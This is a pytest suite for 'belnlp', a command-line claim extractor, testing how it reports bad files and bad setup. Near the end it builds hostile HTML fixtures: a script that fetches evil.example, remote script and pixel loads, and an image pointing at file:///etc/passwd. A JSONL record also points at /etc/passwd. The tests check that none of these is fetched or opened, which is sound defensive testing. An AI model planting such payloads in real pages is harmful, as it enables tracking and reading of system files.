"""Bad input never stops a run, and nothing in an input is executed, fetched or opened.

Each bad input gets one line on stderr naming the file (and line) and the reason, the other
inputs are extracted, and the exit status is non-zero. Encodings and line endings that are
merely unusual must simply work. Setup problems (output paths, rules, aliases) fail with one
line before any document is read. All through the command line.
"""

import builtins
import io
import json
import os
import random
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

import belnlp.ingest.articles
import belnlp.nlp.pipeline
from belnlp.cli import app
from belnlp.records import documents_path_for
from belnlp.rules import nests_quantifiers
from belnlp.run.process import split_text

GOOD = ("Belarus relies heavily on Russian oil and gas.\n\n"
        "In 1999, Minsk and Moscow signed a treaty to form a Union State.\n")
GOOD_CLAIMS = ["Belarus relies heavily on Russian oil and gas.",
               "In 1999, Minsk and Moscow signed a treaty to form a Union State."]
FAILED = "belnlp: error: {n} input(s) failed; see the messages above"
BELNLP = str(Path(sys.executable).with_name("belnlp"))


@pytest.fixture
def cli(nlp, monkeypatch):
    """Run `belnlp` in this process; the default pipeline is the session's, others are built."""
    real = belnlp.nlp.pipeline.build_nlp

    def build(model=belnlp.nlp.pipeline.DEFAULT_MODEL, **settings):
        default = {"rule_files": [], "default_rules": True, "aliases": None}
        if model == belnlp.nlp.pipeline.DEFAULT_MODEL and settings == default:
            return nlp
        return real(model, **settings)

    monkeypatch.setattr(belnlp.nlp.pipeline, "build_nlp", build)

    def invoke(*args):
        return CliRunner().invoke(app, [str(arg) for arg in args])

    return invoke


def lines(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def outputs(out: Path) -> tuple[list[dict], list[dict]]:
    """Claims and documents written by a run with `-o out`."""
    return lines(out), lines(Path(documents_path_for(str(out))))


def assert_offsets_index_the_text(claims: list[dict], documents: list[dict]) -> None:
    texts = {doc["doc_id"]: doc["text"] for doc in documents}
    for claim in claims:
        text = texts[claim["doc_id"]]
        assert text[claim["start"]:claim["end"]] == claim["text"]
        for item in claim["entities"] + claim["evidence"]:
            assert text[item["start"]:item["end"]] == item.get("text", item.get("match"))


# --- inputs that fail with a per-file error while the run goes on -------------------------

PDF = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
       b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 4
NOISE = random.Random(7).randbytes(4096)
BAD_UTF8 = ("Minsk – Moscow.\n" * 40).encode() + b"a \xff b\nRussia.\n"

BAD_INPUTS = {
    "empty": ("empty.txt", b"", "empty document (no text)"),
    "whitespace": ("blank.md", b" \n\t\r\n  \n", "empty document (no text)"),
    "pdf as .txt": ("report.txt", PDF, "binary data (a PDF document), not text"),
    "png as .txt": ("photo.txt", PNG, "binary data (a PNG image), not text"),
    "random bytes": ("noise.txt", NOISE, "binary data or unknown encoding"),
    "random bytes without NUL": ("noise.txt", NOISE.replace(b"\x00", b"\x01"),
                                 "binary data or unknown encoding"),
    "invalid UTF-8 inside": ("cut.txt", BAD_UTF8, "invalid UTF-8 at byte 722 (line 41); "
                             "1 undecodable byte(s) in all, more than 0.1% of the file"),
    "HTML with scripts and styles only": (
        "page.html",
        b"<html><head><style>p{color:red}</style><script>alert(1)</script></head>"
        b"<body><script>document.write('x')</script><style>b{}</style></body></html>",
        "no article text found in the HTML"),
}


@pytest.mark.parametrize(("name", "data", "reason"), BAD_INPUTS.values(), ids=BAD_INPUTS)
def test_a_bad_file_is_reported_and_the_others_are_extracted(cli, tmp_path, name, data,
                                                              reason):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / name).write_bytes(data)
    out = tmp_path / "claims.jsonl"
    result = cli("extract", folder, "-o", out, "-q")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [f"belnlp: {folder / name}: {reason}",
                                          FAILED.format(n=1)]
    claims, documents = outputs(out)
    assert [c["text"] for c in claims] == GOOD_CLAIMS
    assert [d["source"] for d in documents] == [str(folder / "good.txt")]


def test_a_binary_file_given_by_name_is_reported(cli, tmp_path):
    (tmp_path / "paper.pdf").write_bytes(PDF)
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    result = cli("extract", tmp_path / "paper.pdf", tmp_path / "good.txt",
                 "-o", tmp_path / "out.jsonl", "-q")
    assert result.exit_code == 1
    assert f"belnlp: {tmp_path / 'paper.pdf'}: binary data (a PDF document)" in result.stderr
    assert [c["text"] for c in lines(tmp_path / "out.jsonl")] == GOOD_CLAIMS


def test_bad_jsonl_records_are_reported_by_line(cli, tmp_path):
    rows = [json.dumps({"id": "first", "text": GOOD}), "{not json",
            json.dumps({"id": "no-text", "title": "T"}), json.dumps({"id": "n", "text": 42}),
            json.dumps({"id": "l", "text": ["a", "b"]}), '{"id": "s", "text": "Minsk \\ud800."}',
            json.dumps({"id": "last", "text": "Russia is Belarus's largest trading partner."})]
    path = tmp_path / "in.jsonl"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "claims.jsonl"
    result = cli("extract", path, "-o", out, "-q")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: {path}:2: not valid JSON (Expecting property name enclosed in double quotes)",
        f"belnlp: {path}:3: record has no 'text' field",
        f"belnlp: {path}:4: 'text' must be a string, not a number",
        f"belnlp: {path}:5: 'text' must be a string, not a list",
        f"belnlp: {path}:6: 'text' holds an unpaired surrogate escape (\\ud800-\\udfff), "
        "which is not text",
        FAILED.format(n=5),
    ]
    assert [d["doc_id"] for d in outputs(out)[1]] == ["first", "last"]


def test_an_unreadable_file_is_reported(cli, tmp_path, monkeypatch):
    for name in ("a.txt", "secret.txt", "z.txt"):
        (tmp_path / name).write_text(GOOD, encoding="utf-8")
    read_bytes = Path.read_bytes

    def guarded(path):
        if path.name == "secret.txt":
            raise PermissionError(13, "Permission denied", str(path))
        return read_bytes(path)

    monkeypatch.setattr(Path, "read_bytes", guarded)
    out = tmp_path / "out" / "claims.jsonl"
    out.parent.mkdir()
    result = cli("extract", tmp_path, "-o", out, "-q")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: {tmp_path / 'secret.txt'}: cannot read: Permission denied", FAILED.format(n=1)]
    assert [d["source"] for d in outputs(out)[1]] == [str(tmp_path / "a.txt"),
                                                      str(tmp_path / "z.txt")]


def test_a_folder_that_cannot_be_listed_is_reported(cli, tmp_path, monkeypatch):
    (tmp_path / "in" / "locked").mkdir(parents=True)
    (tmp_path / "in" / "locked" / "a.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "in" / "open.txt").write_text(GOOD, encoding="utf-8")
    scandir = os.scandir

    def guarded(path):
        if Path(path).name == "locked":
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", guarded)
    out = tmp_path / "claims.jsonl"
    result = cli("extract", tmp_path / "in", "-o", out, "-q")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: {tmp_path / 'in' / 'locked'}: cannot list folder: Permission denied",
        FAILED.format(n=1)]
    assert [d["source"] for d in outputs(out)[1]] == [str(tmp_path / "in" / "open.txt")]


def test_a_file_that_vanishes_mid_run_is_reported(cli, tmp_path, monkeypatch):
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("a.txt", "b.txt", "c.txt"):
        (folder / name).write_text(GOOD, encoding="utf-8")
    read_bytes = Path.read_bytes

    def read_then_delete_the_next(path):
        if path.name == "a.txt":
            (folder / "b.txt").unlink()
        return read_bytes(path)

    monkeypatch.setattr(Path, "read_bytes", read_then_delete_the_next)
    out = tmp_path / "claims.jsonl"
    result = cli("extract", folder, "-o", out, "-q")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: {folder / 'b.txt'}: file vanished before it could be read", FAILED.format(n=1)]
    assert len(outputs(out)[1]) == 2


def test_a_path_that_does_not_exist_is_reported(cli, tmp_path):
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "claims.jsonl"
    result = cli("extract", tmp_path / "missing.txt", tmp_path / "good.txt", "-o", out, "-q")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: {tmp_path / 'missing.txt'}: no such file or directory", FAILED.format(n=1)]
    assert [c["text"] for c in lines(out)] == GOOD_CLAIMS


def test_fifos_symlink_loops_and_broken_links_in_a_folder(tmp_path):
    """Run as a subprocess: reading a FIFO would block forever, and the timeout catches it."""
    root = tmp_path / "in"
    (root / "chapter.txt").mkdir(parents=True)  # a folder with a text suffix is a folder
    (root / "chapter.txt" / "inner.txt").write_text(GOOD, encoding="utf-8")
    (root / "good.txt").write_text("Russia is Belarus's largest trading partner.\n",
                                   encoding="utf-8")
    (tmp_path / "outside.txt").write_text("Poland fortifies its border.\n", encoding="utf-8")
    os.mkfifo(root / "pipe.txt")
    (root / "up").symlink_to("..")  # leads to tmp_path, which holds the folder being read
    (root / "same").symlink_to(".")
    (root / "x.txt").symlink_to("y.txt")
    (root / "y.txt").symlink_to("x.txt")
    (root / "dangling.txt").symlink_to("nowhere.txt")
    out = tmp_path / "claims.jsonl"
    done = subprocess.run([BELNLP, "extract", str(root), "-o", str(out), "-q"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    assert done.stderr.splitlines() == [
        f"belnlp: {root / 'dangling.txt'}: broken symbolic link",
        f"belnlp: {root / 'pipe.txt'}: not a regular file (a FIFO, socket or device)",
        f"belnlp: {root / 'x.txt'}: cannot read: Too many levels of symbolic links",
        f"belnlp: {root / 'y.txt'}: cannot read: Too many levels of symbolic links",
        f"belnlp: {root / 'same'}: symlink loop: leads back to a folder being read",
        f"belnlp: {root / 'up'}: symlink loop: leads back to a folder being read",
        FAILED.format(n=6),
    ]
    claims, documents = outputs(out)
    assert [d["source"] for d in documents] == [str(root / "good.txt"),
                                                str(root / "chapter.txt" / "inner.txt")]
    assert "Poland" not in out.read_text(encoding="utf-8")


def test_a_folder_reached_through_two_links_is_read_once(cli, tmp_path):
    (tmp_path / "in" / "real").mkdir(parents=True)
    (tmp_path / "in" / "real" / "a.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "in" / "also").symlink_to("real")
    out = tmp_path / "claims.jsonl"
    result = cli("extract", tmp_path / "in", "-o", out, "-q")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: {tmp_path / 'in' / 'real'}: folder already read through another link",
        FAILED.format(n=1)]
    assert [d["source"] for d in outputs(out)[1]] == [str(tmp_path / "in" / "also" / "a.txt")]


def test_a_file_name_that_is_not_utf8_is_written_escaped(cli, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.txt"), "w", encoding="utf-8") as f:
        f.write(GOOD)
    out = tmp_path / "claims.jsonl"
    result = cli("extract", folder, "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    assert {c["source"] for c in lines(out)} == {f"{folder}/caf\\xe9.txt"}


def test_line_separators_inside_jsonl_strings_split_no_record(cli, tmp_path):
    """JSON allows U+2028, U+2029 and U+0085 unescaped; only \\n ends a JSONL line."""
    text = "Belarus relies on Russian gas.\u2028Russia is its largest partner.\x85Minsk agrees."
    path = tmp_path / "in.jsonl"
    path.write_text(json.dumps({"id": "a", "text": text}, ensure_ascii=False) + "\n"
                    + json.dumps({"id": "b", "text": GOOD}) + "\n", encoding="utf-8")
    out = tmp_path / "claims.jsonl"
    result = cli("extract", path, "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    documents = Path(documents_path_for(str(out))).read_text(encoding="utf-8")
    assert [d["text"] for d in map(json.loads, documents.splitlines())] == [text, GOOD]
    claims = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert {c["doc_id"] for c in claims} == {"a", "b"}


def test_a_long_run_without_spaces_is_extracted_quickly(cli, tmp_path):
    """spaCy's affix rules take quadratic time on such runs: these two took over a minute."""
    text = GOOD + "\n" + '"' * 20_000 + "\n\n" + "🙂" * 20_000 + "\n\nRussia is a big country.\n"
    (tmp_path / "junk.txt").write_text(text, encoding="utf-8")
    out = tmp_path / "claims.jsonl"
    started = time.monotonic()
    result = cli("extract", tmp_path / "junk.txt", "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    assert time.monotonic() - started < 10
    claims, documents = outputs(out)
    assert [c["text"] for c in claims][:2] == GOOD_CLAIMS
    assert claims[-1]["text"] == "Russia is a big country."
    assert_offsets_index_the_text(claims, documents)


# --- output paths that fail before any document is read ----------------------------------

@pytest.fixture
def nothing_is_read(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("inputs were read although the run could not start")

    monkeypatch.setattr(belnlp.ingest.articles, "read_articles", refuse)


def test_an_output_folder_that_does_not_exist_fails_first(cli, tmp_path, nothing_is_read):
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "missing" / "claims.jsonl"
    result = cli("extract", tmp_path / "good.txt", "-o", out)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: error: {out}: output directory {out.parent} does not exist"]


def test_an_unwritable_output_folder_fails_first(cli, tmp_path, monkeypatch, nothing_is_read):
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    locked = tmp_path / "locked"
    locked.mkdir()
    access = os.access
    monkeypatch.setattr(os, "access", lambda path, mode: access(path, mode)
                        and Path(path) != locked.resolve())  # root may write anywhere
    documents = locked / "docs.jsonl"
    result = cli("extract", tmp_path / "good.txt", "-o", tmp_path / "claims.jsonl",
                 "--documents", documents)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: error: {documents}: output directory {locked} is not writable"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["good.txt", "locked"]


def test_an_output_path_that_is_a_folder_fails_first(cli, tmp_path, nothing_is_read):
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "out").mkdir()
    result = cli("extract", tmp_path / "good.txt", "-o", tmp_path / "out")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: error: {tmp_path / 'out'}: is a directory, not a file"]


def test_an_output_path_that_is_a_fifo_fails_first_and_stays_a_fifo(cli, tmp_path,
                                                                    nothing_is_read):
    """Outputs are renamed into place: a device or FIFO given as -o must not be replaced
    (as root, /dev/null would become a regular file)."""
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    result = cli("extract", tmp_path / "good.txt", "-o", fifo)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"belnlp: error: {fifo}: not a regular file; outputs are written as files "
        "(use - for standard output)"]
    assert stat.S_ISFIFO(fifo.stat().st_mode)


# --- inputs that must simply work ----------------------------------------------------------

ARTICLE = ("Moscow and Minsk\n\n"
           "Belarus relies heavily on Russian oil and gas. Russia is Belarus’s largest trading "
           "partner.\n\n"
           "In 2021, Russian and Belarusian troops held the Zapad exercises near Poland.\n")


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_with_and_without_bom(cli, tmp_path, codec):
    (tmp_path / "in.txt").write_bytes(ARTICLE.encode(codec))
    out = tmp_path / "claims.jsonl"
    result = cli("extract", tmp_path / "in.txt", "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    claims, [document] = outputs(out)
    assert document["text"] == ARTICLE and document["encoding"].startswith("utf")
    assert len(claims) == 3
    assert_offsets_index_the_text(claims, [document])


@pytest.mark.parametrize("text", [
    "Беларусь и Россия подписали договор о создании Союзного государства в 1999 году.\n\n"
    "Россия остаётся главным торговым партнёром Беларуси.\n",
    "Беларусь і Расія падпісалі дагавор аб стварэнні Саюзнай дзяржавы ў 1999 годзе.\n\n"
    "Расія застаецца галоўным гандлёвым партнёрам Беларусі.\n",
], ids=["russian", "belarusian"])
def test_cp1251_cyrillic(cli, tmp_path, text):
    (tmp_path / "in.txt").write_bytes(text.encode("cp1251"))
    out = tmp_path / "claims.jsonl"
    result = cli("extract", tmp_path / "in.txt", "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    claims, [document] = outputs(out)
    assert document["text"] == text and document["encoding"] == "cp1251"
    assert_offsets_index_the_text(claims, [document])


def test_windows_line_endings_change_no_claim(cli, tmp_path):
    (tmp_path / "unix.txt").write_text(ARTICLE, encoding="utf-8", newline="\n")
    (tmp_path / "windows.txt").write_text(ARTICLE, encoding="utf-8", newline="\r\n")
    out = tmp_path / "claims.jsonl"
    result = cli("extract", tmp_path / "unix.txt", tmp_path / "windows.txt", "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    claims, documents = outputs(out)
    assert "\r\n" in documents[1]["text"]
    assert_offsets_index_the_text(claims, documents)
    unix, windows = ([c for c in claims if c["doc_id"] == d["doc_id"]] for d in documents)
    assert [c["text"] for c in windows] == [c["text"] for c in unix]
    assert [c["categories"] for c in windows] == [c["categories"] for c in unix]


def test_a_text_longer_than_max_length_is_cut_at_paragraphs(cli, nlp, tmp_path, monkeypatch):
    paragraphs = [f"In {1990 + i}, Russian troops held exercises near Poland. Belarus relied "
                  "heavily on Russian oil and gas that year." for i in range(20)]
    run_on = " ".join(f"Minsk borrowed {i} billion dollars from Moscow." for i in range(40))
    text = "\n\n".join(paragraphs[:10] + [run_on] + paragraphs[10:]) + "\n"
    (tmp_path / "long.txt").write_text(text, encoding="utf-8")
    whole = tmp_path / "whole.jsonl"
    assert cli("extract", tmp_path / "long.txt", "-o", whole, "-q").exit_code == 0
    monkeypatch.setattr(nlp, "max_length", 600)
    assert len(list(split_text(text, nlp.max_length))) > 5
    cut = tmp_path / "cut.jsonl"
    result = cli("extract", tmp_path / "long.txt", "-o", cut, "-q")
    assert result.exit_code == 0, result.stderr
    claims, documents = outputs(cut)
    assert_offsets_index_the_text(claims, documents)
    assert [(c["start"], c["text"]) for c in claims] == [
        (c["start"], c["text"]) for c in lines(whole)]
    assert len(claims) == 80


# --- rules and aliases that fail before any document is read ------------------------------

def rule(**fields) -> str:
    return json.dumps({"id": "r1", "category": "energy", **fields})


BAD_RULES = {
    "not JSON": ("{oops", ":1: not valid JSON"),
    "unknown key": (rule(term=["gas"]), ":1: rule 'r1': unknown key(s) ['term']"),
    "pattern spaCy rejects": (rule(pattern=[{"LOWERCASE": "gas"}]),
                              ":1: rule 'r1': spaCy rejects the pattern"),
    "invalid regex": (rule(pattern=[{"TEXT": {"REGEX": "(unclosed"}}]),
                      ":1: rule 'r1': invalid regular expression '(unclosed'"),
    "nested quantifiers": (rule(pattern=[{"LOWER": {"REGEX": "^((ab)+)+$"}}]),
                           ":1: rule 'r1': regular expression '^((ab)+)+$' nests quantifiers"),
    "nested quantifiers in a dependency pattern": (
        rule(dependency=[{"RIGHT_ID": "v", "RIGHT_ATTRS": {"LEMMA": {"REGEX": r"(?:(\w+)-?)*x"}}}]),
        ":1: rule 'r1': regular expression '(?:(\\\\w+)-?)*x' nests quantifiers"),
}


@pytest.mark.parametrize("regex", [r"^(\d+\.){3}\d+$", r"^(?>\w+\s?)+$", r"^(\w++-?)+$",
                                   r"^[A-Z][a-z]+(?:ov|ova|enko)$"])
def test_regexes_that_cannot_backtrack_forever_are_accepted(regex):
    assert not nests_quantifiers(regex)


@pytest.mark.parametrize(("content", "problem"), BAD_RULES.values(), ids=BAD_RULES)
def test_a_bad_rules_file_fails_first_with_one_line(cli, tmp_path, nothing_is_read, content,
                                                    problem):
    bad = tmp_path / "bad.jsonl"
    bad.write_text(content + "\n", encoding="utf-8")
    (tmp_path / "corpus").mkdir()
    (tmp_path / "corpus" / "a.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    result = cli("extract", "--rules", bad, tmp_path / "corpus", "-o", out / "claims.jsonl")
    assert result.exit_code == 1
    [message] = result.stderr.splitlines()
    assert message.startswith(f"belnlp: error: {bad}{problem}")
    assert list(out.iterdir()) == []


@pytest.mark.parametrize("option", ["--rules", "--aliases"])
def test_a_setup_file_that_is_missing_or_not_utf8_fails_first(cli, tmp_path, nothing_is_read,
                                                              option):
    kind = "rules" if option == "--rules" else "alias"
    latin = tmp_path / "latin.jsonl"
    latin.write_bytes('{"note": "gaz à bas prix"}'.encode("latin-1"))
    missing = tmp_path / "missing.jsonl"
    for path, problem in [(missing, f"cannot read {kind} file (No such file or directory)"),
                          (latin, f"{kind} file is not UTF-8 (byte 14)")]:
        result = cli("extract", option, path, tmp_path, "-o", tmp_path / "claims.jsonl")
        assert result.exit_code == 1
        assert result.stderr.splitlines() == [f"belnlp: error: {path}: {problem}"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["latin.jsonl"]


def alias(**fields) -> str:
    return json.dumps({"actor": "BLR", "kind": "country", "names": ["Belarus"], **fields})


BAD_ALIASES = {
    "not JSON": ("[1,", ":1: not valid JSON"),
    "unknown key": (alias(iso="BY"), ":1: unknown key(s) ['iso']"),
    "bad actor": (alias(actor="blr"), ":1: 'actor' must be an upper-case id or null, got 'blr'"),
    "unknown kind": (alias(kind="city"), ":1: unknown kind 'city'"),
    "one name, two actors": (alias() + "\n" + alias(actor="RUS"),
                             ":2: 'Belarus' already maps to BLR, not RUS"),
}


@pytest.mark.parametrize(("content", "problem"), BAD_ALIASES.values(), ids=BAD_ALIASES)
@pytest.mark.parametrize("mode", [[], ["--incremental"]], ids=["plain", "incremental"])
def test_a_bad_alias_file_fails_first_with_one_line(cli, tmp_path, nothing_is_read, content,
                                                    problem, mode):
    bad = tmp_path / "aliases.jsonl"
    bad.write_text(content + "\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    result = cli("extract", "--aliases", bad, *mode, tmp_path, "-o", out / "claims.jsonl")
    assert result.exit_code == 1
    [message] = result.stderr.splitlines()
    assert message.startswith(f"belnlp: error: {bad}{problem}")
    assert list(out.iterdir()) == []


def test_an_alias_file_gives_the_actors(cli, tmp_path):
    table = tmp_path / "aliases.jsonl"
    table.write_text(alias(names=["Belarus", "Minsk"]) + "\n"
                     + alias(actor="ZZZ", kind="organisation", names=["Union State"]) + "\n",
                     encoding="utf-8")
    (tmp_path / "a.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "claims.jsonl"
    result = cli("extract", "--aliases", table, tmp_path / "a.txt", "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    actors = {e["text"]: e["actor"] for c in lines(out) for e in c["entities"]}
    assert actors["Belarus"] == "BLR" and actors["Minsk"] == "BLR"
    assert actors["Union State"] == "ZZZ" and actors["Moscow"] is None


# --- readers of belnlp's own files name file and line -------------------------------------

def test_inspect_names_the_line_of_a_malformed_claims_file(cli, tmp_path):
    (tmp_path / "a.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "claims.jsonl"
    assert cli("extract", tmp_path / "a.txt", "-o", out, "-q").exit_code == 0
    good, _ = out.read_text(encoding="utf-8").splitlines()
    bad = tmp_path / "bad.jsonl"
    bad.write_text("\n".join([good, "{not json", json.dumps({"schema": "belnlp.claim/1"})]),
                   encoding="utf-8")
    result = cli("inspect", bad)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"belnlp: error: {bad}:2: not JSON")
    skipping = cli("inspect", "--skip-invalid", "--summary", bad)
    assert f"{bad}:2: not JSON" in skipping.stderr
    assert f"{bad}:3: missing required field(s): claim_id" in skipping.stderr


def test_evaluate_names_the_line_of_malformed_gold_and_claims(cli, tmp_path):
    gold = Path(__file__).parent / "gold" / "union-state-history.jsonl"
    first, second = gold.read_text(encoding="utf-8").splitlines()[:2]
    bad_gold = tmp_path / "gold.jsonl"
    bad_gold.write_text(f"{first}\n{second}\n{{\"type\": \"sentence\", oops\n", encoding="utf-8")
    claims = tmp_path / "claims.jsonl"
    claims.write_text("{\"schema\": \"belnlp.claim/1\"}\n", encoding="utf-8")
    result = cli("evaluate", "--gold", bad_gold, "--pred", claims)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"belnlp: error: {bad_gold}:3: not valid JSON")
    result = cli("evaluate", "--gold", gold, "--pred", claims)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"belnlp: error: {claims}:1:")


# --- nothing in an input is executed, fetched or opened -----------------------------------

HOSTILE_HTML = """<!doctype html><html><head><title>Drills</title>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0; url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/s.css"><script src="http://evil.example/x.js">
</script><script>fetch("http://evil.example/beacon")</script></head><body><article>
<h1>Drills near the border</h1>
<img src="http://evil.example/pixel.gif"><img src="file:///etc/passwd">
<iframe src="http://evil.example/frame"></iframe>
{body}</article></body></html>"""


def test_no_network_access_whatever_the_html_asks_for(cli, tmp_path, monkeypatch):
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access in a test")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    body = "".join(f"<p>Belarus and Russia held joint exercises in week {i}, which worried "
                   "Poland and Lithuania a great deal.</p>" for i in range(6))
    (tmp_path / "page.html").write_text(HOSTILE_HTML.format(body=body), encoding="utf-8")
    out = tmp_path / "claims.jsonl"
    result = cli("extract", tmp_path / "page.html", "-o", out, "-q")
    assert result.exit_code == 0, result.stderr
    assert attempts == []
    claims, [document] = outputs(out)
    assert len(claims) == 6
    assert "fetch" not in document["text"] and "root:" not in document["text"]


def test_paths_in_jsonl_records_are_metadata_only(cli, tmp_path, monkeypatch):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET root:x:0:0", encoding="utf-8")
    record = {"id": "r1", "text": GOOD, "url": str(secret), "path": str(secret),
              "file": "/etc/passwd", "title": "Pipelines"}
    (tmp_path / "in.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    opened = []
    for module, name in ((builtins, "open"), (io, "open"), (os, "open")):
        real = getattr(module, name)

        def spy(file, *args, _real=real, **kwargs):
            opened.append(os.fsdecode(file) if isinstance(file, str | bytes | Path) else file)
            return _real(file, *args, **kwargs)

        monkeypatch.setattr(module, name, spy)
    out = tmp_path / "claims.jsonl"
    result = cli("extract", tmp_path / "in.jsonl", "-o", out, "-q")
    monkeypatch.undo()
    assert result.exit_code == 0, result.stderr
    assert str(tmp_path / "in.jsonl") in opened  # the spy sees what is read
    assert str(secret) not in opened and "/etc/passwd" not in opened
    claims, [document] = outputs(out)
    assert "TOPSECRET" not in out.read_text() + json.dumps(document)
    assert document["url"] == str(secret) and {c["source"] for c in claims} == {str(secret)}
